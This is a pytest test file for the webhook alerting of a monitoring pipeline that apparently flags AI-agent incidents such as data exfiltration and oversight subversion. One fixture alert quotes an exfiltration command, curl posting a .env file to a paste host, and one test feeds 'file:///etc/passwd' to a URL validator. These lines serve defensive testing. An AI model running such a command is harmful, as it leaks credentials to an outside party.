"""Alerts against a real HTTP receiver on 127.0.0.1: Slack-compatible payloads, retries, and never
the same alert twice across runs."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import dagster as dg
import pytest

from assets.quality import quality_alert_sensor
from assets.resources import WarehouseResource
from bench.quality_bench import build_contract_marts
from pipelines.config import Settings
from pipelines.quality.alerts import (
    Alert,
    AlertLedger,
    WebhookError,
    collect_alerts,
    deliver_alerts,
    post_json,
    resolve_webhook_url,
    slack_payload,
)
from pipelines.warehouse.connections import open_warehouse
from pipelines.warehouse.serving import publish_snapshot
from tests.quality.conftest import add_signal


class Receiver:
    """A webhook on 127.0.0.1: records every POST body, answers with the scripted statuses (then 200)."""

    def __init__(self) -> None:
        self.bodies: list[dict] = []
        self.statuses: list[int] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers["Content-Length"])
                receiver.bodies.append(json.loads(self.rfile.read(length)))
                status = receiver.statuses.pop(0) if receiver.statuses else 200
                self.send_response(status)
                self.end_headers()
                self.wfile.write(b"ok" if status == 200 else b"nope")

            def log_message(self, *args: object) -> None:  # keep test output quiet
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hooks/T000/B000/secret"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    r = Receiver()
    yield r
    r.close()


ALERT = Alert(
    key="incident:abc",
    kind="critical_incident",
    title="Critical incident: data_exfiltration in codex-team",
    text="Session `s1` on 2026-02-23: curl --data @.env <https://paste.example>",
    fields=(("deployment", "codex-team"), ("category", "data_exfiltration")),
)


def test_payload_is_a_slack_message_with_escaped_text() -> None:
    payload = slack_payload(ALERT)

    assert payload["text"].startswith("Critical incident: data_exfiltration in codex-team")
    assert [b["type"] for b in payload["blocks"]] == ["header", "section", "section", "context"]
    assert payload["blocks"][0]["text"] == {"type": "plain_text", "text": ALERT.title}
    assert payload["blocks"][2]["fields"][0] == {"type": "mrkdwn", "text": "*deployment*\ncodex-team"}
    assert "incident:abc" in payload["blocks"][3]["elements"][0]["text"]
    json.dumps(payload)  # serializable as is


def test_post_retries_a_500_then_succeeds(receiver: Receiver) -> None:
    receiver.statuses = [500]
    waits: list[float] = []

    status = post_json(receiver.url, slack_payload(ALERT), backoff_s=0.01, sleep=waits.append)

    assert status == 200
    assert len(receiver.bodies) == 2
    assert receiver.bodies[0] == receiver.bodies[1] == slack_payload(ALERT)
    assert waits == [0.01]


def test_post_gives_up_after_its_attempts_without_leaking_the_url_path(receiver: Receiver) -> None:
    receiver.statuses = [503, 503, 503]

    with pytest.raises(WebhookError, match="failed after 3 attempts: HTTP 503") as error:
        post_json(receiver.url, {"text": "x"}, attempts=3, backoff_s=0.01)

    assert len(receiver.bodies) == 3
    assert "secret" not in str(error.value)


def test_post_does_not_retry_a_client_error(receiver: Receiver) -> None:
    receiver.statuses = [400]

    with pytest.raises(WebhookError, match="HTTP 400"):
        post_json(receiver.url, {"text": "x"}, backoff_s=0.01)

    assert len(receiver.bodies) == 1


def test_unreachable_webhook_is_retried_then_reported(tmp_path: Path) -> None:
    with ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler) as closed:
        url = f"http://127.0.0.1:{closed.server_address[1]}/hook"
    # the server is closed: nothing listens on that port any more
    with pytest.raises(WebhookError, match="failed after 2 attempts"):
        post_json(url, {"text": "x"}, attempts=2, backoff_s=0.01, timeout_s=2)


def test_webhook_url_comes_from_the_environment_and_must_be_http(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("COTWATCH_ALERT_WEBHOOK_URL", raising=False)
    assert resolve_webhook_url() is None
    monkeypatch.setenv("COTWATCH_ALERT_WEBHOOK_URL", "https://hooks.example/T/B/x")
    assert resolve_webhook_url() == "https://hooks.example/T/B/x"
    monkeypatch.setenv("COTWATCH_ALERT_WEBHOOK_URL", "file:///etc/passwd")
    with pytest.raises(ValueError, match="COTWATCH_ALERT_WEBHOOK_URL"):
        resolve_webhook_url()


def test_delivery_stops_at_a_failing_webhook_and_resumes_next_time(
    receiver: Receiver, tmp_path: Path
) -> None:
    ledger = AlertLedger(tmp_path / "alerts" / "sent.jsonl")
    alerts = [Alert(key=f"incident:{i}", kind="critical_incident", title=f"t{i}", text="x") for i in range(3)]
    receiver.statuses = [200, 500, 500]

    first = deliver_alerts(alerts, url=receiver.url, ledger=ledger, attempts=2, backoff_s=0.01)
    second = deliver_alerts(alerts, url=receiver.url, ledger=ledger, attempts=2, backoff_s=0.01)

    assert (first.sent, first.deferred) == (["incident:0"], 2)
    assert "HTTP 500" in first.error
    assert (second.sent, second.already_sent, second.deferred) == (["incident:1", "incident:2"], 1, 0)
    assert ledger.sent_keys() == {"incident:0", "incident:1", "incident:2"}
    assert [b["text"].split(":")[0] for b in receiver.bodies] == ["t0", "t1", "t1", "t1", "t2"]


def publish(settings: Settings) -> None:
    """What a pipeline run does before the sensor sees anything: rebuild marts, publish the snapshot."""
    with open_warehouse(settings) as conn:
        build_contract_marts(conn)
    publish_snapshot(settings)


def evaluate_sensor(settings: Settings, cursor: str | None) -> tuple[object, str | None]:
    resource = WarehouseResource(data_dir=str(settings.data_dir), landing_dir=str(settings.landing_dir))
    # the resource takes the run lock in a context manager: open the context as the daemon does
    with dg.build_sensor_context(cursor=cursor, resources={"warehouse": resource}) as context:
        result = quality_alert_sensor(context)
        return result, context.cursor


def test_sensor_posts_each_critical_incident_once_across_runs(
    warehouse: Settings, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COTWATCH_ALERT_WEBHOOK_URL", receiver.url)
    publish(warehouse)

    _, cursor = evaluate_sensor(warehouse, None)
    assert len(receiver.bodies) == 1
    assert receiver.bodies[0]["text"].startswith("Critical incident: data_exfiltration in codex-team")

    # Next run: same incidents, a new snapshot, the cursor reset (a redeployed daemon): nothing new.
    publish(warehouse)
    skipped, _ = evaluate_sensor(warehouse, None)
    assert len(receiver.bodies) == 1
    assert "0 alerts" in skipped.skip_message and "1 already sent" in skipped.skip_message

    # A run that adds two critical incidents: the recent one is posted; the other is in a session from
    # January, weeks before the newest data (outside the lookback), and is left to the dashboard.
    with open_warehouse(warehouse) as conn:
        add_signal(
            conn,
            source_format="codex",
            kind="reasoning",
            category="oversight_subversion",
            severity="critical",
        )
        add_signal(
            conn,
            source_format="claude",
            kind="tool_call",
            category="oversight_subversion",
            severity="critical",
        )
    publish(warehouse)
    evaluate_sensor(warehouse, cursor)
    assert len(receiver.bodies) == 2
    assert receiver.bodies[1]["text"].startswith("Critical incident: oversight_subversion in codex-team")
    assert len(AlertLedger.for_settings(warehouse).sent_keys()) == 2


def test_sensor_skips_without_webhook_or_snapshot(
    warehouse: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("COTWATCH_ALERT_WEBHOOK_URL", raising=False)
    off, _ = evaluate_sensor(warehouse, None)
    assert "COTWATCH_ALERT_WEBHOOK_URL" in off.skip_message

    monkeypatch.setenv("COTWATCH_ALERT_WEBHOOK_URL", "http://127.0.0.1:9/unused")
    unpublished, _ = evaluate_sensor(warehouse, None)
    assert "no serving snapshot" in unpublished.skip_message


def test_spikes_become_alerts_keyed_by_deployment_and_day(warehouse: Settings) -> None:
    with open_warehouse(warehouse) as conn:
        conn.execute("delete from marts.agg_deployment_daily")
        conn.executemany(
            "insert into marts.agg_deployment_daily values ('alpha', 'm', ?::date + ?, 50, 0, 0, ?, 0, ?, 0, 0, 0)",
            [("2026-02-01", n, inc, inc) for n, inc in enumerate([1] * 10 + [12])],
        )
        alerts = [a for a in collect_alerts(conn) if a.kind == "incident_rate_spike"]

    assert [a.key for a in alerts] == ["spike:alpha:2026-02-11"]
    assert "12 incidents in 50 sessions" in alerts[0].text
